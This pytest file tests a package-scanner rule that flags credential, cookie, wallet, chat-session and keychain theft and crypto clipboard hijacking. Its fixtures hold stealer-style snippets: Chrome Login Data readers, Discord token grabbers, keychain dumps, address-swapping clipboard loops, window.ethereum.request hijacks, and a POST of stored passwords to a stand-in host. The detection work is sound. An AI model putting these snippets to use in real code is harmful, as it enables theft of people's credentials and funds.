"""Stores of passwords, sessions and wallets are told when they are opened; naming a profile or a wallet is not."""

from __future__ import annotations

import pytest

from app.core.specimen import ArtifactFacts
from tests.detectors.artifacts import findings, npm, places, sdist, told, wheel
from worker.detectors import browser_or_wallet_access as rule
from worker.detectors import credential_theft

# Addresses of nobody: the first one ever mined to, an example of BIP 173, an example of EIP 55.
BITCOIN = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"
SEGWIT = "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"
ETHEREUM = "0x52908400098527886E0F7030069857D2E4169EE7"
METAMASK, BINANCE, PHANTOM = (
    "nkbihfbeogaeaoehlefnkodbefgpgknn",
    "fhbohimaelbohpjbbldcngcnapndodjp",
    "bfnaelmomeimhlpmgjnjophhpkkoljpa",
)
PROFILE = "process.env.LOCALAPPDATA + '\\\\Google\\\\Chrome\\\\User Data\\\\Default"
CHROMIUM = """import os, json, shutil, sqlite3
import win32crypt


def key():
    path = os.path.join(os.environ["USERPROFILE"], "AppData", "Local", "Google", "Chrome", "User Data", "Local State")
    with open(path) as file:
        return json.load(file)["os_crypt"]["encrypted_key"]


database = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "default", "Login Data")
shutil.copyfile(database, "copy.db")
rows = sqlite3.connect("copy.db").execute("select origin_url from logins").fetchall()
"""
CHAT = """import os, re
import requests
ROAMING = os.getenv("APPDATA")
PATHS = {"one": ROAMING + "\\\\discordcanary", "two": ROAMING + "\\\\discordptb"}


def look(path):
    path += "\\\\Local Storage\\\\leveldb"
    for name in os.listdir(path):
        for line in open(f"{path}\\\\{name}", errors="ignore"):
            yield from re.findall(r"dQw4w9WgXcQ:[^\\"]*", line)


for name, path in PATHS.items():
    if os.path.exists(path + "\\\\Local State"):
        print(requests.get("https://api.example/version"), list(look(path)))
"""
CLIPPER = f"""import re, time
import pyperclip

while True:
    text = pyperclip.paste()
    if re.match(r"^[13][a-km-zA-HJ-NP-Z1-9]{{25,34}}$", text):
        pyperclip.copy("{BITCOIN}")
    time.sleep(1)
"""


def severities(artifact: ArtifactFacts) -> list[str]:
    """How grave what it tells is."""
    return [str(found.severity) for found in findings(rule, artifact)]


class TestAlarm:
    def test_stored_passwords_are_told_with_their_path(self) -> None:
        (found,) = findings(rule, wheel({"imgpress/__init__.py": CHROMIUM}))
        path = "%LOCALAPPDATA%/Google/Chrome/User Data/default/Login Data"
        assert told([found]) == [f"critical: its code opens stored browser passwords ({path})"]
        assert places(found) == ["imgpress/__init__.py:12"]

    @pytest.mark.parametrize(
        ("source", "says"),
        [
            (f"require('fs').copyFileSync({PROFILE}\\\\Login Data', 'x');", "opens stored browser passwords"),
            ("const p = require('path').join(require('os').homedir(), '.moz' + 'illa', 'firefox', 'x.default', ['key4', 'db'].join('.')); require('fs')['read' + 'FileSync'](p);", "opens stored browser passwords"),
            (f"require('fs').readdirSync({PROFILE}\\\\Local Extension Settings\\\\{METAMASK}');", "opens wallets"),
            (f"require('fs').createReadStream({PROFILE}\\\\Local Extension Settings\\\\' + Buffer.from('{METAMASK.encode().hex()}', 'hex'));", "opens wallets"),
            ("require('fs-extra').copy(process.env.APPDATA + '/Exodus/exodus.wallet', '/tmp/x');", "opens wallets"),
            ("require('fs').readFile(require('os').homedir() + '/.config/Bitwarden/data.json', () => {});", "opens stored passwords"),
            ("require('fs').readdirSync(process.env.APPDATA + '/discord/Local Storage/leveldb');", "opens chat sessions"),
            ("require('child_process').execSync('security dump-keychain -d login.keychain');", "opens the keychain"),
            ("require('child_process').execFileSync('security', ['find-generic-password', '-wa', 'Chrome']);", "opens the keychain"),
            (f"require('fs').readFileSync({PROFILE}\\\\Network\\\\Cookies');", "opens browser cookies"),
        ],
    )  # fmt: skip
    def test_the_ways_of_javascript(self, source: str, says: str) -> None:
        files = {"scripts/setup.js": source}
        (line,) = told(findings(rule, npm(files, scripts={"postinstall": "node scripts/setup.js"})))
        assert line.startswith(f"critical: its install step {says}"), line

    @pytest.mark.parametrize(
        ("source", "says"),
        [
            ("from pathlib import Path\nimport shutil\nfor p in (Path.home() / '.mozilla/firefox').glob('*'):\n    shutil.copy(p / 'logins.json', '/tmp/x')\n", "opens stored browser passwords"),
            ("import os, shutil\nshutil.make_archive('x', 'zip', os.path.join(os.getenv('APPDATA'), 'Electrum', 'wallets'))\n", "opens wallets"),
            (f"import os, shutil\nfor one in ['{METAMASK}', '{BINANCE}']:\n    shutil.copytree(os.environ['LOCALAPPDATA'] + '/Google/Chrome/User Data/Default/Local Extension Settings/' + one, 'out')\n", "opens wallets"),
            ("import browser_cookie3\ncookies = browser_cookie3.load()\n", "opens browser cookies"),
            ("import os\nos.listdir(os.path.join(os.getenv('APPDATA'), 'Telegram Desktop', 'tdata'))\n", "opens chat sessions"),
            ("import secretstorage\nfor item in secretstorage.get_default_collection(bus).get_all_items():\n    print(item)\n", "opens the keychain"),
        ],
    )  # fmt: skip
    def test_the_ways_of_python(self, source: str, says: str) -> None:
        (line,) = told(findings(rule, sdist({"setup.py": source})))
        assert line.startswith(f"critical: its install step {says}"), line

    @pytest.mark.parametrize(
        "command",
        [
            "zip -r /tmp/x ~/Library/Application\\ Support/Exodus/exodus.wallet",
            "cp -r ~/Library/Keychains /tmp/x",
            "cat ~/.mozilla/firefox/x.default/logins.json",
            "security dump-keychain",
            "powershell -c \"Copy-Item '$env:LOCALAPPDATA/Google/Chrome/User Data/Default/Login Data' x\"",
            f"while true; do if pbpaste | grep -qE '^0x[a-fA-F0-9]{{40}}$'; then echo {ETHEREUM} | pbcopy; fi; done",
        ],
    )
    def test_the_ways_of_a_shell(self, command: str) -> None:
        assert severities(npm(scripts={"postinstall": command})) == ["critical"]

    def test_stores_under_computed_paths_are_told_by_their_names(self) -> None:
        (line,) = told(findings(rule, wheel({"imgpress/__init__.py": CHAT})))
        assert line == "critical: its code reads files and names the stores of browsers or wallets (chat sessions)"

    def test_a_list_of_wallets_beside_a_function_that_reads_is_told(self) -> None:
        source = f"const fs = require('fs'); const all = ['{METAMASK}', '{BINANCE}', '{PHANTOM}'];\nmodule.exports = (under) => require('./paths').of(under, all).map((path) => fs.readFileSync(path));"
        names = "the wallet Binance, the wallet MetaMask, the wallet Phantom"
        assert told(findings(rule, npm({"index.js": source}))) == [
            f"high: its code reads files and names the stores of browsers or wallets ({names})"
        ]

    @pytest.mark.parametrize(
        "source",
        [
            f"const {{ clipboard }} = require('electron'); setInterval(() => {{ if (/^0x[a-fA-F0-9]{{40}}$/.test(clipboard.readText())) clipboard.writeText('{ETHEREUM}'); }}, 500);",
            f"import clipboard from 'clipboardy'; setInterval(async () => {{ if ((await clipboard.read()).startsWith('bc1')) await clipboard.write('{SEGWIT}'); }}, 500);",
            f"const run = require('child_process').execSync; setInterval(() => {{ if (/^(bc1|[13])[a-z0-9]+$/.test(run('xclip -o'))) run('echo {BITCOIN} | xclip -i'); }}, 500);",
        ],
    )
    def test_swapping_addresses_on_the_clipboard(self, source: str) -> None:
        assert told(findings(rule, npm({"index.js": source}))) == [
            "critical: its code swaps addresses of coins on the clipboard"
        ]

    def test_swapping_addresses_in_python(self) -> None:
        assert severities(wheel({"imgpress/__init__.py": CLIPPER})) == ["critical"]

    def test_a_function_put_before_the_wallet_of_a_page(self) -> None:
        source = f"const sent = window.ethereum.request;\nwindow.ethereum.request = (asked) => {{ asked.params[0].to = '{ETHEREUM}'; return sent(asked); }};"
        assert told(findings(rule, npm({"index.js": source}))) == [
            "critical: its code puts itself between a page and its wallet (ethereum.request)"
        ]
        assert severities(npm({"index.js": source.replace("asked.params[0].to =", "const to =")})) == ["high"]

    @pytest.mark.parametrize(
        "hook",
        [
            "const wallet = window.ethereum; wallet.request = async (asked) => {",
            "Object.defineProperty(window.ethereum, 'request', { value: async (asked) => {",
            "window.ethereum = new Proxy(window.ethereum, { get: () => (asked) => {",
        ],
    )
    def test_other_ways_to_stand_between(self, hook: str) -> None:
        end = "}" if hook.count("{") == 1 else "} })"
        source = f"{hook} asked.params[0].to = '{ETHEREUM}'; {end};"
        assert severities(npm({"index.js": source})) == ["critical"]

    def test_all_that_a_page_sends_going_through_code_with_purses_of_its_own(self) -> None:
        source = f"const mine = ['{BITCOIN}', '{SEGWIT}', '{ETHEREUM}'];\nconst sent = window.fetch;\nwindow.fetch = async (...asked) => sent(...asked);"
        assert told(findings(rule, npm({"index.js": source}))) == [
            "critical: its code puts itself between a page and its wallet (fetch)"
        ]


class TestInnocentTwin:
    @pytest.mark.parametrize(
        "source",
        [
            # the shapes of launchers, browser tests, clipboard libraries, wallet kits, validators and fetch wrappers
            "const p = require('path').join(process.env.LOCALAPPDATA, 'Google/Chrome/Application/chrome.exe'); require('fs').accessSync(p); require('child_process').spawn(p, ['--user-data-dir=/tmp/profile']);",
            "const dir = require('fs').mkdtempSync('/tmp/profile-'); require('fs').writeFileSync(dir + '/Default/Preferences', '{}'); require('fs').writeFileSync(dir + '/Local State', '{}');",
            "module.exports = { read: () => navigator.clipboard.readText(), write: (text) => navigator.clipboard.writeText(text) };",
            "const { execSync } = require('child_process'); exports.paste = () => execSync('pbpaste'); exports.copy = (text) => execSync('pbcopy', { input: text });",
            f"export const connect = () => chrome.runtime.connect('{METAMASK}');",
            "export const send = (to) => window.ethereum.request({ method: 'eth_sendTransaction', params: [{ to }] });",
            f"export const token = '{ETHEREUM}'; export const isAddress = (text) => /^0x[a-fA-F0-9]{{40}}$/.test(text);",
            "const original = window.fetch; window.fetch = (...asked) => { report(asked); return original(...asked); };",
            f"client.request = async (asked) => send(asked, '{ETHEREUM}');",
            "XMLHttpRequest.prototype.open = wrap(XMLHttpRequest.prototype.open);",
            "// Login Data, key4.db and logins.json are never read\nrequire('fs').readFileSync('config.json');",
            "require('child_process').execFileSync('security', ['find-generic-password', '-s', 'my-tool', '-w']);",
        ],
    )
    def test_ordinary_javascript(self, source: str) -> None:
        assert findings(rule, npm({"index.js": source})) == []

    @pytest.mark.parametrize(
        "source",
        [
            "import keyring\n\n\ndef token(user):\n    return keyring.get_password('my-tool', user)\n",
            "import pyperclip\n\n\ndef swap(text):\n    before = pyperclip.paste()\n    pyperclip.copy(text)\n    return before\n",
            '"""Reads `Login Data`, `key4.db`, `logins.json` and `wallet.dat`? No."""\nimport json\nprint(json.load(open("a.json")))\n',
            "from selenium import webdriver\noptions = webdriver.ChromeOptions()\noptions.add_argument('--user-data-dir=/home/me/.config/google-chrome/Default')\n",
        ],
    )
    def test_ordinary_python(self, source: str) -> None:
        assert findings(rule, wheel({"imgpress/__init__.py": source})) == []

    def test_a_downloader_that_reads_cookies_when_it_is_told_to_is_no_block(self) -> None:
        """The shape of yt-dlp."""
        source = "import os, sqlite3\n\n\ndef load(profile):\n    root = os.path.expanduser('~/.config/google-chrome')\n    return sqlite3.connect(os.path.join(root, profile, 'Cookies'))\n"
        assert severities(wheel({"imgpress/__init__.py": source})) == ["high"]

    def test_the_folder_of_a_profile_alone_is_no_warning(self) -> None:
        """The shape of tools that copy a profile to test with."""
        source = "import os\n\n\ndef profiles():\n    return os.listdir(os.path.expanduser('~/.mozilla/firefox'))\n"
        assert severities(wheel({"imgpress/__init__.py": source})) == ["medium"]

    def test_a_page_of_a_wallet_with_buttons_to_copy_and_paste_is_no_warning(self) -> None:
        source = "export const paste = async () => { const text = await navigator.clipboard.readText(); return /^0x[a-fA-F0-9]{40}$/.test(text) ? text : ''; };\nexport const copy = (text) => navigator.clipboard.writeText(text);"
        assert severities(npm({"index.js": source})) == ["medium"]

    def test_what_is_sent_away_is_told_by_the_rule_that_says_so(self) -> None:
        source = f"fetch('https://drop.example', {{ method: 'POST', body: require('fs').readFileSync({PROFILE}\\\\Login Data') }});"
        artifact = npm({"index.js": source})
        assert findings(rule, artifact) == []
        assert [str(found.severity) for found in findings(credential_theft, artifact)] == ["critical"]

    def test_in_a_test_it_is_low(self) -> None:
        assert severities(sdist({"tests/test_copy.py": CHROMIUM})) == ["low"]

    def test_what_the_old_version_did_is_not_new(self) -> None:
        old = wheel({"imgpress/__init__.py": CHROMIUM})
        assert [found.new for found in findings(rule, old, old)] == [False]
